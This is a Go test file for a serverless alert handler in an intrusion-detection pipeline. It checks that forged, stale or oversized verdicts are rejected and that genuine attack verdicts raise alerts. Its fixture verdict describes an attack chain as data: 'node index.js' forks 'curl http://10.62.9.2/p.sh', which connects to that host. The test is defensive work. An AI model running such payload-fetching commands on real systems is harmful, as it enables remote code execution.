package function

import (
	"bytes"
	"encoding/json"
	"github.com/faasmon/faasmon/pkg/fnhttp/fnhttptest"
	"io"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strings"
	"testing"

	"github.com/faasmon/faasmon/pkg/alert"
	"github.com/faasmon/faasmon/pkg/fnhttp"
	"github.com/faasmon/faasmon/pkg/hopauth"
	"github.com/faasmon/faasmon/pkg/hopauth/hoptest"
	"github.com/faasmon/faasmon/pkg/verdict"
)

func attack() verdict.Verdict {
	return verdict.Verdict{
		GraphID: "g-1", Function: "resize", Namespace: "openfaas-fn", Pod: "resize-abc", Container: "c0ffee",
		Verdict: verdict.Attack, Score: 0.97, Threshold: 0.5, ModelVersion: "test",
		Explanation: &verdict.Explanation{
			Method: "test",
			Nodes:  []verdict.NodeAttr{{ID: 1, Kind: "process", Label: "curl http://10.62.9.2/p.sh", Weight: 0.9}},
			Edges: []verdict.EdgeAttr{{Index: 0, Src: 0, Dst: 1, Kind: "fork", From: "node index.js", To: "curl http://10.62.9.2/p.sh", Weight: 0.8},
				{Index: 1, Src: 1, Dst: 2, Kind: "connect", From: "curl http://10.62.9.2/p.sh", To: "10.62.9.2:80", Weight: 0.7}},
		},
	}
}

func body(t *testing.T, v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestHandle(t *testing.T) {
	// One processor per process (sync.Once): configure it before the first
	// call. No NATS, no responder, dedupe in memory, stdout to a buffer.
	t.Setenv(alert.EnvSecretsDir, t.TempDir())
	t.Setenv(alert.EnvNATS, "false")
	t.Setenv(alert.EnvDedupeDir, "memory")
	t.Setenv(alert.EnvResponder, "none")
	var out bytes.Buffer
	stdout = &out
	fnhttp.DefaultHop.Keys = hoptest.Source()

	benign := attack()
	benign.GraphID, benign.Verdict, benign.Score = "g-0", verdict.Benign, 0.01
	other := attack()
	other.GraphID, other.Container = "g-2", "beef"
	invalid := attack()
	invalid.Verdict = "intrusion"
	tests := []struct {
		name, method, body string
		status             string // X-Function-Status
		wantCode           int
		want               string // in the answer
		wantOut            string // in the stdout sink
		way                hoptest.Way
	}{
		// Forged verdicts: none may alert (the stdout sink stays empty).
		{"unsigned attack", http.MethodPost, body(t, attack()), "200", 401, `not signed`, "", hoptest.Unsigned},
		{"attack with a bad MAC", http.MethodPost, body(t, attack()), "200", 403, `does not match`, "", hoptest.BadMAC},
		{"stale attack", http.MethodPost, body(t, attack()), "200", 403, `outside the accepted window`, "", hoptest.Stale},
		{"attack signed with the retired key", http.MethodPost, body(t, attack()), "200", 403, `unknown key`, "", hoptest.OldKey},
		{"attack with an added header", http.MethodPost, body(t, attack()), "200", 403, `does not match`, "", hoptest.Altered},
		{"a graph's MAC on a verdict", http.MethodPost, body(t, attack()), "200", 403, `does not match`, "", hoptest.WrongFor},
		{"health", http.MethodGet, "", "", 200, `"status":"ok"`, "", ""},
		{"benign", http.MethodPost, body(t, benign), "200", 200, `"outcome":"benign_dropped"`, "", ""},
		{"attack", http.MethodPost, body(t, attack()), "200", 200, `"outcome":"alerted"`, `"chain":"node index.js → curl http://10.62.9.2/p.sh → connect 10.62.9.2:80"`, ""},
		{"no status header", http.MethodPost, body(t, other), "", 200, `"outcome":"alerted"`, `"container":"beef"`, ""},
		{"batch", http.MethodPost, "[" + body(t, benign) + "," + body(t, invalid) + "]", "200", 200, `[{"outcome":"benign_dropped"},{"error":"invalid verdict`, "", ""},
		{"bad JSON", http.MethodPost, `{"graph_id": `, "200", 400, `decode verdict`, "", ""},
		{"invalid verdict", http.MethodPost, body(t, invalid), "200", 400, `invalid verdict`, "", ""},
		{"empty body", http.MethodPost, "", "200", 400, `empty body`, "", ""},
		{"classify failed", http.MethodPost, `{"error":"faasmon-classify: boom"}`, "500", 200, `"skipped":"classify failed with status 500"`, "", ""},
		{"bad status header", http.MethodPost, body(t, attack()), "ok", 400, `X-Function-Status`, "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			out.Reset()
			req := httptest.NewRequest(tc.method, "/", strings.NewReader(tc.body))
			if tc.status != "" {
				req.Header.Set("X-Function-Status", tc.status)
			}
			req.Header.Set("X-Call-Id", "call-"+tc.name)
			way := tc.way
			if way == "" {
				way = hoptest.Good
			}
			hoptest.Sign(req.Header, hopauth.KindVerdict, []byte(tc.body), way)
			rec := httptest.NewRecorder()
			Handle(rec, req)
			if rec.Code != tc.wantCode || !strings.Contains(rec.Body.String(), tc.want) {
				t.Errorf("%d %s, want %d with %s", rec.Code, rec.Body, tc.wantCode, tc.want)
			}
			if tc.wantOut != "" && !strings.Contains(out.String(), tc.wantOut) {
				t.Errorf("stdout sink %q, want %s", out.String(), tc.wantOut)
			}
			if tc.wantOut == "" && out.Len() != 0 {
				t.Errorf("stdout sink wrote %q", out.String())
			}
		})
	}
	st := proc.Stats.Snapshot()
	if st.ClassifyFailed != 1 || st.Alerts != 2 || st.Benign != 2 || st.Invalid != 2 {
		t.Errorf("stats %+v", st)
	}
}

// TestOversizeRefusedBeforeDecoding: too many bytes (declared or not) and
// too many nodes within the byte limit are each a 413, and the handler
// allocates about the body at most — not the gigabyte that decoding a million
// nodes costs (issue 14).
func TestOversizeRefusedBeforeDecoding(t *testing.T) {
	// The same configuration as TestHandle (one processor per process).
	t.Setenv(alert.EnvSecretsDir, t.TempDir())
	t.Setenv(alert.EnvNATS, "false")
	t.Setenv(alert.EnvDedupeDir, "memory")
	t.Setenv(alert.EnvResponder, "none")
	if stdout == nil {
		stdout = io.Discard
	}
	if _, err := processor(); err != nil {
		t.Fatal(err)
	}
	fnhttp.DefaultHop.Keys = hoptest.Source()
	nodes := fnhttptest.TinyNodes(1_000_000)
	if len(nodes) > maxBodyBytes {
		t.Fatalf("test body of %d bytes is over the byte limit; it must test the node count", len(nodes))
	}
	for _, c := range []struct {
		name     string
		body     func() io.Reader
		length   int64
		maxAlloc uint64
	}{
		{"32 MiB declared", func() io.Reader { return &fnhttptest.Endless{N: 32 << 20} }, 32 << 20, 1 << 20},
		{"32 MiB chunked", func() io.Reader { return &fnhttptest.Endless{N: 32 << 20} }, -1, 3 * maxBodyBytes},
		{"1 M nodes under the byte limit", func() io.Reader { return bytes.NewReader(nodes) }, int64(len(nodes)), uint64(len(nodes)) + 1<<20},
	} {
		t.Run(c.name, func(t *testing.T) {
			req := httptest.NewRequest(http.MethodPost, "/", c.body())
			req.ContentLength = c.length
			// Signed as classify signs: the node count is checked on
			// authenticated bodies (the byte limits hold before).
			hoptest.Sign(req.Header, hopauth.KindVerdict, nodes, hoptest.Good)
			w := httptest.NewRecorder()
			runtime.GC()
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			Handle(w, req)
			runtime.ReadMemStats(&after)
			if w.Code != http.StatusRequestEntityTooLarge {
				t.Fatalf("status %d (%s), want 413", w.Code, w.Body.String())
			}
			if got := after.TotalAlloc - before.TotalAlloc; got > c.maxAlloc {
				t.Errorf("allocated %d bytes refusing it, bound %d", got, c.maxAlloc)
			} else {
				t.Logf("refused with %d bytes allocated: %s", got, strings.TrimSpace(w.Body.String()))
			}
		})
	}
}
